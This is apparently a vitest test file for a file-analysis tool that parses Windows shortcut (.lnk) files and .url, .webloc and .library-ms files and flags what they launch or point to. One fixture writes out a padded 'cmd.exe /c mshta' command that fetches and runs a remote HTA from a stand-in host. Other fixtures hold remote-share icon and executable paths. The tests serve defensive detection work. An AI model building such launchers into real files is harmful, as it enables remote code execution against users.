import { describe, expect, test } from 'vitest'
import { buildLnk } from '../../testing/build-lnk.ts'
import { startBudget } from '../archives/archive-member.ts'
import type { FileReader, FileReading } from '../file-reading.ts'
import { addressFiles } from './address-files.ts'
import { parseLnk } from './parse-lnk.ts'
import { shortcuts } from './reader.ts'

async function read(reader: FileReader, content: Uint8Array | string): Promise<FileReading> {
  const bytes = typeof content === 'string' ? Buffer.from(content) : content
  return reader.read({
    bytes,
    type: '',
    fileName: '',
    passwords: [],
    budget: startBudget(1_000_000),
  })
}

describe('a shortcut', () => {
  test('says what it starts, with which words, and where it was made', async () => {
    const bytes = buildLnk({
      localPath: 'C:\\Windows\\System32\\cmd.exe',
      arguments: `${' '.repeat(200)}/c mshta https://drop.example/a.hta`,
      icon: '\\\\192.0.2.7\\share\\pdf.ico',
      machine: 'desk-17',
    })
    const { signs, facts = [], links } = await read(shortcuts, bytes)
    expect(signs).toEqual([
      {
        kind: 'shortcut-command',
        excerpt: 'C:\\Windows\\System32\\cmd.exe /c mshta https://drop.example/a.hta',
      },
    ])
    expect(Object.fromEntries(facts.map(({ name, value }) => [name, value]))).toMatchObject({
      padding: '235',
      'made-on-machine': 'desk-17',
      'hardware-address': '00:00:5e:00:53:af',
      'show-window': 'minimised',
      'target-created': '2020-04-22T01:11:00.000Z',
    })
    expect(links).toEqual([
      { url: 'https://drop.example/a.hta', kind: 'document' },
      { url: '\\\\192.0.2.7\\share\\pdf.ico', kind: 'resource' },
    ])
  })

  test('without link information is read from its environment block', () => {
    const target = '%ComSpec%'
    expect(parseLnk(buildLnk({ environmentTarget: target }))?.target).toBe(target)
  })

  test('hands on what is appended to it', async () => {
    const appended = Buffer.alloc(100, 0x41)
    const { members } = await read(shortcuts, buildLnk({ localPath: 'C:\\a.exe', appended }))
    expect(members?.map(({ content }) => content?.length)).toEqual([100])
  })

  test('cut off anywhere is read as far as it goes', () => {
    const whole = buildLnk({ localPath: 'C:\\a.exe', arguments: 'b', icon: 'c', machine: 'd' })
    for (let length = 76; length <= whole.length; length++)
      expect(parseLnk(whole.subarray(0, length))?.appendedAt).toBeLessThanOrEqual(length)
  })
})

test.each([
  [
    '.url',
    '[InternetShortcut]\r\nURL=https://login.example/x\r\nIconIndex=0\r\n',
    'https://login.example/x',
  ],
  [
    '.url to a share',
    '[InternetShortcut]\r\nURL=file://198.51.100.4/pub/a.exe\r\n',
    'file://198.51.100.4/pub/a.exe',
  ],
  [
    '.webloc',
    '<plist version="1.0"><dict><key>URL</key><string>https://a.example/?b=1&amp;c=2</string></dict></plist>',
    'https://a.example/?b=1&c=2',
  ],
  [
    'library-ms',
    '<searchConnectorDescription><simpleLocation><url>\\\\203.0.113.9\\DavWWWRoot</url></simpleLocation></searchConnectorDescription>',
    '\\\\203.0.113.9\\DavWWWRoot',
  ],
])('where a %s file leads is read', async (_name, text, url) => {
  const { links } = await read(addressFiles, text)
  expect(links?.map((link) => link.url)).toEqual([url])
})
